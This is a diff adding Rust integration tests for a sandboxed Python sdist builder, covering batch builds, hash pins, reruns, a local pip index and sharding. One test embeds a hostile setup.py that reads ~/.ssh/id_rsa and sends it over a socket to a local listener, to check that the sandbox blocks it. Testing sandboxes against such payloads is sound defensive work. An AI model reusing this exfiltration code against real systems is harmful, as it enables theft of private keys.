@@ -1,0 +1,564 @@
+//! `build-all` and `index` with real sdists in real sandboxes: a hash-pinned
+//! list of every pinned fixture (setuptools, legacy setup.py, flit, hatchling,
+//! poetry-core, pdm-backend, a C extension) plus a corrupt archive and a hash
+//! mismatch, built two at a time; a rerun that skips what is done; the
+//! index pip installs from; shards that cover the input exactly once; and a
+//! batch as the unprivileged user with a hostile package in it.
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use common::{CanaryHome, Listener, SECRET, Sdist};
+use serde_json::Value;
+
+struct Pin {
+    filename: String,
+    sha256: String,
+    name: String,
+    import_name: String,
+}
+
+fn pins() -> Vec<Pin> {
+    let text = std::fs::read_to_string(common::repo().join("tests/fixtures/sdists.toml")).unwrap();
+    let doc: toml::Table = toml::from_str(&text).unwrap();
+    doc["sdist"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| Pin {
+            filename: s["filename"].as_str().unwrap().into(),
+            sha256: s["sha256"].as_str().unwrap().into(),
+            name: s["name"].as_str().unwrap().into(),
+            import_name: s["import_name"].as_str().unwrap().into(),
+        })
+        .collect()
+}
+
+/// The fixtures and the wheelhouse are there (else `skipped: …`).
+fn ready() -> bool {
+    if !common::ready_for_builds() {
+        return false;
+    }
+    let missing: Vec<String> = pins()
+        .iter()
+        .filter(|p| !common::sdist_cache().join(&p.filename).exists())
+        .map(|p| p.filename.clone())
+        .collect();
+    if !missing.is_empty() {
+        let why = format!("test fixtures missing (run scripts/setup-tests): {missing:?}");
+        if std::env::var_os(common::REQUIRE_ALL).is_some() {
+            panic!("{why}");
+        }
+        eprintln!("skipped: {why}");
+        return false;
+    }
+    true
+}
+
+fn sdist_box(args: &[&std::ffi::OsStr], as_user: Option<(u32, u32)>, home: &Path) -> Output {
+    let mut cmd = match as_user {
+        Some((uid, gid)) => {
+            let mut c = Command::new("setpriv");
+            c.args([
+                &format!("--reuid={uid}"),
+                &format!("--regid={gid}"),
+                "--clear-groups",
+                "--",
+            ]);
+            c.arg(common::shared_binary());
+            c
+        }
+        None => Command::new(common::bin()),
+    };
+    cmd.args(args)
+        .env("HOME", home)
+        .env("NO_COLOR", "1")
+        .output()
+        .expect("run sdist-box")
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
+        o.status.code(),
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+fn summary(out: &Path) -> Value {
+    serde_json::from_str(&std::fs::read_to_string(out.join("build-all.json")).unwrap()).unwrap()
+}
+
+fn entry<'a>(summary: &'a Value, filename: &str) -> &'a Value {
+    summary["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["filename"] == filename)
+        .unwrap_or_else(|| panic!("no entry for {filename} in {summary:#}"))
+}
+
+fn os(s: &str) -> &std::ffi::OsStr {
+    std::ffi::OsStr::new(s)
+}
+
+/// The real interpreter (python3 may be a pyenv shim).
+fn real_python() -> String {
+    let out = Command::new(common::python())
+        .args(["-c", "import sys; print(sys.executable)"])
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+#[test]
+fn a_pinned_list_builds_two_at_a_time_resumes_and_installs_from_the_index() {
+    if !ready() {
+        return;
+    }
+    let tmp = tempfile::Builder::new()
+        .prefix("sdist-box-batch-")
+        .tempdir()
+        .unwrap();
+    let sdists = tmp.path().join("sdists");
+    std::fs::create_dir_all(&sdists).unwrap();
+    let pins = pins();
+    assert!(pins.len() >= 10, "the fixture set shrank: {}", pins.len());
+    for p in &pins {
+        std::fs::copy(
+            common::sdist_cache().join(&p.filename),
+            sdists.join(&p.filename),
+        )
+        .unwrap();
+    }
+    // A corrupt archive: the first 3000 bytes of a real one (the gzip
+    // stream ends mid-tar).
+    let whole = std::fs::read(common::sdist_cache().join(&pins[0].filename)).unwrap();
+    std::fs::write(sdists.join("truncated-1.0.tar.gz"), &whole[..3000]).unwrap();
+    // An sdist pinned to another file's hash: it must never run. Were it
+    // built, its setup.py would print a marker into the log.
+    Sdist::setuptools_with("wrong-pin", "print('WRONG-PIN RAN')").write(&sdists);
+    let wrong_pin = "wrong_pin-0.1.tar.gz";
+
+    // The list sits in its own directory: relative paths are relative to it.
+    let list_dir = tmp.path().join("list");
+    std::fs::create_dir_all(&list_dir).unwrap();
+    let mut list = String::from("# every pinned fixture, hash-pinned as pip would have them\n");
+    for (i, p) in pins.iter().enumerate() {
+        if i % 2 == 0 {
+            list.push_str(&format!(
+                "../sdists/{} \\\n    --hash=sha256:{}  # {}\n",
+                p.filename, p.sha256, p.name
+            ));
+        } else {
+            list.push_str(&format!(
+                "../sdists/{} --hash=sha256:{}\n",
+                p.filename, p.sha256
+            ));
+        }
+    }
+    list.push_str("\n../sdists/truncated-1.0.tar.gz\n");
+    list.push_str(&format!(
+        "../sdists/{wrong_pin} --hash=sha256:{}\n",
+        pins[0].sha256
+    ));
+    let list_path = list_dir.join("requirements.txt");
+    std::fs::write(&list_path, list).unwrap();
+
+    let out = tmp.path().join("out");
+    let wheelhouse = common::wheelhouse().unwrap();
+    let cache = common::env_cache();
+    let args = |extra: &[&str]| -> Vec<std::ffi::OsString> {
+        let mut a: Vec<std::ffi::OsString> = vec![
+            "build-all".into(),
+            list_path.clone().into(),
+            "-o".into(),
+            out.clone().into(),
+            "--jobs".into(),
+            "2".into(),
+            "--find-links".into(),
+            wheelhouse.clone().into(),
+            "--no-index".into(),
+            "--cache-dir".into(),
+            cache.clone().into(),
+            // markupsafe: a failed compile is an error, not a pure-Python fallback.
+            "--env".into(),
+            "CIBUILDWHEEL=1".into(),
+        ];
+        a.extend(extra.iter().map(|s| s.into()));
+        a
+    };
+    let run = |extra: &[&str]| {
+        let a = args(extra);
+        let refs: Vec<&std::ffi::OsStr> = a.iter().map(|s| s.as_os_str()).collect();
+        sdist_box(&refs, None, tmp.path())
+    };
+
+    // 1. The first run: every fixture built; the two bad entries refused.
+    let first = run(&[]);
+    let s = summary(&out);
+    assert_eq!(
+        first.status.code(),
+        Some(5),
+        "the worst outcome is a refused input:\n{}",
+        text(&first)
+    );
+    assert_eq!(s["schema_version"], 1);
+    assert_eq!(s["complete"], true);
+    assert_eq!(s["jobs"], 2);
+    assert_eq!(s["exit_code"], 5);
+    assert_eq!(s["counts"]["built"], pins.len(), "{}", text(&first));
+    assert_eq!(s["counts"]["refused"], 2);
+    assert_eq!(s["counts"]["skipped"], 0);
+    let mut report_mtimes = Vec::new();
+    for p in &pins {
+        let e = entry(&s, &p.filename);
+        assert_eq!(e["status"], "built", "{e:#}\n{}", text(&first));
+        assert_eq!(e["sha256"], p.sha256.as_str());
+        let wheel = out.join(e["wheel"].as_str().unwrap());
+        assert!(wheel.is_file(), "{}", wheel.display());
+        let report_path = out.join(e["report"].as_str().unwrap());
+        let report: Value =
+            serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();
+        assert_eq!(report["input"]["sha256"], p.sha256.as_str());
+        assert_eq!(report["input"]["sha256_pinned"], true);
+        assert_eq!(
+            report["wheel"]["sha256"].as_str().unwrap(),
+            sdist_box::archive::sha256_file(&wheel).unwrap()
+        );
+        assert!(out.join(e["log"].as_str().unwrap()).is_file());
+        report_mtimes.push((
+            report_path.clone(),
+            std::fs::metadata(&report_path).unwrap().modified().unwrap(),
+        ));
+    }
+    let truncated = entry(&s, "truncated-1.0.tar.gz");
+    assert_eq!(truncated["status"], "refused", "{truncated:#}");
+    assert!(
+        truncated["reason"]
+            .as_str()
+            .unwrap()
+            .contains("truncated-1.0.tar.gz"),
+        "the reason names the archive: {truncated:#}"
+    );
+    let mismatch = entry(&s, wrong_pin);
+    assert_eq!(mismatch["status"], "refused", "{mismatch:#}");
+    let reason = mismatch["reason"].as_str().unwrap();
+    assert!(
+        reason.contains(wrong_pin) && reason.contains(&pins[0].sha256),
+        "the reason names the file and the pin: {reason}"
+    );
+    // Nothing of it ran: no log, and its report says it was never extracted.
+    assert!(!out.join("wrong_pin-0.1.build.log").exists());
+    let mreport: Value = serde_json::from_str(
+        &std::fs::read_to_string(out.join("wrong_pin-0.1.sdist-box.json")).unwrap(),
+    )
+    .unwrap();
+    assert!(mreport["input"]["archive"].is_null(), "{mreport:#}");
+    assert!(mreport["wheel"].is_null());
+    let stderr = String::from_utf8_lossy(&first.stderr);
+    assert!(
+        stderr.contains("package") && stderr.contains("findings") && stderr.contains("refused"),
+        "the summary table: {stderr}"
+    );
+    assert!(!stderr.contains("WRONG-PIN RAN"));
+
+    // 2. A rerun skips every finished sdist and rewrites none of its outputs.
+    let second = run(&[]);
+    assert_eq!(second.status.code(), Some(5), "{}", text(&second));
+    let s2 = summary(&out);
+    assert_eq!(s2["counts"]["skipped"], pins.len(), "{}", text(&second));
+    assert_eq!(s2["counts"]["built"], 0);
+    assert_eq!(s2["counts"]["refused"], 2);
+    for p in &pins {
+        assert_eq!(entry(&s2, &p.filename)["status"], "skipped");
+    }
+    for (path, mtime) in &report_mtimes {
+        assert_eq!(
+            &std::fs::metadata(path).unwrap().modified().unwrap(),
+            mtime,
+            "{} was rewritten by the rerun",
+            path.display()
+        );
+    }
+    // The plan agrees: every fixture would be skipped.
+    let plan = run(&["--dry-run"]);
+    assert_eq!(plan.status.code(), Some(0), "{}", text(&plan));
+    let plan_out = String::from_utf8_lossy(&plan.stdout);
+    assert_eq!(
+        plan_out.lines().filter(|l| l.starts_with("skip\t")).count(),
+        pins.len(),
+        "{plan_out}"
+    );
+    assert!(
+        plan_out.contains("hash-mismatch\t0/1\twrong-pin\t"),
+        "{plan_out}"
+    );
+
+    // 3. The index, and pip installing from it into a fresh venv.
+    let idx = sdist_box(&[os("index"), out.as_os_str()], None, tmp.path());
+    assert_eq!(idx.status.code(), Some(0), "{}", text(&idx));
+    let root: Value =
+        serde_json::from_str(&std::fs::read_to_string(out.join("simple/index.json")).unwrap())
+            .unwrap();
+    assert_eq!(root["meta"]["api-version"], "1.1");
+    assert_eq!(root["projects"].as_array().unwrap().len(), pins.len());
+    let venv = tmp.path().join("venv");
+    let made = Command::new(real_python())
+        .args(["-m", "venv"])
+        .arg(&venv)
+        .output()
+        .unwrap();
+    assert!(made.status.success(), "{}", text(&made));
+    let index_url = format!("file://{}", out.join("simple").display());
+    let names: Vec<&str> = vec!["markupsafe", "tomli", "pdm-backend", "colorama"];
+    let install = Command::new(venv.join("bin/pip"))
+        .args([
+            "install",
+            "--no-deps",
+            "--disable-pip-version-check",
+            "--index-url",
+            &index_url,
+        ])
+        .args(&names)
+        .output()
+        .unwrap();
+    assert!(install.status.success(), "{}", text(&install));
+    let imports: Vec<String> = pins
+        .iter()
+        .filter(|p| names.contains(&p.name.as_str()))
+        .map(|p| p.import_name.clone())
+        .collect();
+    let code = format!(
+        "import importlib, markupsafe._speedups\nfor m in {imports:?}: importlib.import_module(m)\nprint('imported', len({imports:?}))"
+    );
+    let ran = Command::new(venv.join("bin/python"))
+        .args(["-c", &code])
+        .current_dir(tmp.path())
+        .output()
+        .unwrap();
+    assert!(ran.status.success(), "{}", text(&ran));
+    assert!(String::from_utf8_lossy(&ran.stdout).contains(&format!("imported {}", names.len())));
+}
+
+#[test]
+fn shards_cover_the_input_exactly_once() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("sdists");
+    std::fs::create_dir_all(&dir).unwrap();
+    let mut all = BTreeSet::new();
+    for p in pins() {
+        // Content does not matter for the plan: the shard comes from the name.
+        std::fs::write(dir.join(&p.filename), p.sha256.as_bytes()).unwrap();
+        all.insert(dir.join(&p.filename));
+    }
+    for i in 0..30 {
+        let f = dir.join(format!("project_{i}-1.{i}.tar.gz"));
+        std::fs::write(&f, b"not even an archive").unwrap();
+        all.insert(f);
+    }
+    // Two versions of one project (names spelled differently).
+    for f in ["Same.Project-1.0.tar.gz", "same_project-2.0.zip"] {
+        std::fs::write(dir.join(f), b"x").unwrap();
+        all.insert(dir.join(f));
+    }
+    std::fs::write(dir.join("README.txt"), b"not an sdist").unwrap();
+    let out = tmp.path().join("out");
+    let plan = |shard: Option<&str>| -> Vec<(String, PathBuf)> {
+        let mut a = vec![
+            os("build-all"),
+            dir.as_os_str(),
+            os("-o"),
+            out.as_os_str(),
+            os("--list"),
+        ];
+        if let Some(s) = shard {
+            a.push(os("--shard"));
+            a.push(os(s));
+        }
+        let o = sdist_box(&a, None, tmp.path());
+        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+        String::from_utf8_lossy(&o.stdout)
+            .lines()
+            .map(|l| {
+                let cols: Vec<&str> = l.split('\t').collect();
+                assert_eq!(cols.len(), 4, "{l}");
+                assert_eq!(cols[0], "build", "{l}");
+                (cols[2].to_string(), PathBuf::from(cols[3]))
+            })
+            .collect()
+    };
+    let whole: BTreeSet<PathBuf> = plan(None).into_iter().map(|(_, p)| p).collect();
+    assert_eq!(whole, all, "the plan without --shard is the whole input");
+    let mut seen = BTreeSet::new();
+    let mut sizes = Vec::new();
+    for i in 0..3 {
+        let part = plan(Some(&format!("{i}/3")));
+        sizes.push(part.len());
+        for (_, path) in part {
+            assert!(
+                seen.insert(path.clone()),
+                "{} is in two shards",
+                path.display()
+            );
+        }
+    }
+    assert_eq!(seen, all, "shards 0/3, 1/3, 2/3 together are the input");
+    assert!(sizes.iter().all(|&n| n > 0), "{sizes:?}");
+    // Both versions of one project land in the same shard.
+    let same: Vec<usize> = (0..3)
+        .filter(|i| {
+            plan(Some(&format!("{i}/3")))
+                .iter()
+                .any(|(k, _)| k == "same-project")
+        })
+        .collect();
+    assert_eq!(same.len(), 1, "{same:?}");
+    let in_it = plan(Some(&format!("{}/3", same[0])));
+    assert_eq!(in_it.iter().filter(|(k, _)| k == "same-project").count(), 2);
+    // A bad --shard is a usage error.
+    let bad = sdist_box(
+        &[
+            os("build-all"),
+            dir.as_os_str(),
+            os("-o"),
+            out.as_os_str(),
+            os("--shard"),
+            os("3/3"),
+        ],
+        None,
+        tmp.path(),
+    );
+    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad));
+    assert!(!out.exists(), "a dry run writes nothing");
+}
+
+#[test]
+fn a_batch_as_the_unprivileged_user_stops_and_names_a_hostile_package() {
+    require!(
+        common::userns_available(),
+        "user namespaces are disabled on this host"
+    );
+    require!(common::is_root(), "needs root to switch to the test user");
+    let Some(user) = common::test_user() else {
+        require!(
+            false,
+            "no user sdistbox-test (scripts/setup-tests creates it)"
+        );
+        return;
+    };
+    if !ready() {
+        return;
+    }
+    let home = CanaryHome::new();
+    let listener = Listener::start();
+    listener.self_check();
+    let tmp = common::tempdir_for(Some(user));
+    let dir = tmp.path().join("sdists");
+    std::fs::create_dir_all(&dir).unwrap();
+    for f in ["tomli-2.3.0.tar.gz", "docopt-0.6.2.tar.gz"] {
+        std::fs::copy(common::sdist_cache().join(f), dir.join(f)).unwrap();
+    }
+    let attack = format!(
+        r#"
+import socket
+try:
+    key = open({key:?}).read()
+except OSError as e:
+    key = 'denied ' + type(e).__name__
+try:
+    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
+    s.sendall(key.encode())
+    print('ATTACK sent')
+except OSError as e:
+    print('ATTACK connect denied', type(e).__name__)
+"#,
+        key = home.path().join(".ssh/id_rsa").display().to_string(),
+        port = listener.port
+    );
+    Sdist::setuptools_with("sneaky", &attack).write(&dir);
+    let wheelhouse = tmp.path().join("wh");
+    std::fs::create_dir_all(&wheelhouse).unwrap();
+    for e in std::fs::read_dir(common::wheelhouse().unwrap()).unwrap() {
+        let e = e.unwrap();
+        std::fs::copy(e.path(), wheelhouse.join(e.file_name())).unwrap();
+    }
+    let out = tmp.path().join("out");
+    let cache = tmp.path().join("cache");
+    for p in [&dir, &wheelhouse, tmp.path()] {
+        Command::new("chmod")
+            .args(["-R", "a+rX"])
+            .arg(p)
+            .status()
+            .unwrap();
+    }
+    Command::new("chown")
+        .arg("-R")
+        .arg(format!("{}:{}", user.0, user.1))
+        .arg(tmp.path())
+        .status()
+        .unwrap();
+    let o = sdist_box(
+        &[
+            os("build-all"),
+            dir.as_os_str(),
+            os("-o"),
+            out.as_os_str(),
+            os("-j"),
+            os("2"),
+            os("--python"),
+            os("/usr/bin/python3"),
+            os("--find-links"),
+            wheelhouse.as_os_str(),
+            os("--no-index"),
+            os("--cache-dir"),
+            cache.as_os_str(),
+        ],
+        Some(user),
+        home.path(),
+    );
+    let s = summary(&out);
+    // Every wheel built; the hostile one's findings make the run exit 1.
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    assert_eq!(s["counts"]["built"], 3, "{}", text(&o));
+    assert_eq!(s["counts"]["fails_on"], 1);
+    let sneaky = entry(&s, "sneaky-0.1.tar.gz");
+    assert_eq!(sneaky["fails_on"], true, "{sneaky:#}");
+    assert!(sneaky["findings"].as_u64().unwrap() >= 1);
+    for f in ["tomli-2.3.0.tar.gz", "docopt-0.6.2.tar.gz"] {
+        assert_eq!(entry(&s, f)["fails_on"], false, "{}", text(&o));
+    }
+    // The attack was stopped...
+    assert_eq!(listener.connections(), 0, "the host listener was reached");
+    home.assert_unchanged();
+    let log = std::fs::read_to_string(out.join("sneaky-0.1.build.log")).unwrap();
+    assert!(log.contains("ATTACK connect denied"), "{log}");
+    assert!(!log.contains(SECRET));
+    // ...and its report names it.
+    let report: Value = serde_json::from_str(
+        &std::fs::read_to_string(out.join(sneaky["report"].as_str().unwrap())).unwrap(),
+    )
+    .unwrap();
+    let target = format!("127.0.0.1:{}", listener.port);
+    assert!(
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["severity"] == "blocked"
+                && f["target"].as_str().unwrap_or("").contains(&target)),
+        "no blocked finding for {target}: {:#}",
+        report["findings"]
+    );
+    assert_eq!(report["sandbox"]["enforcement"]["host_uid"], user.0);
+    // Outputs belong to the user who ran it.
+    use std::os::unix::fs::MetadataExt;
+    assert_eq!(
+        std::fs::metadata(out.join("build-all.json")).unwrap().uid(),
+        user.0
+    );
+}
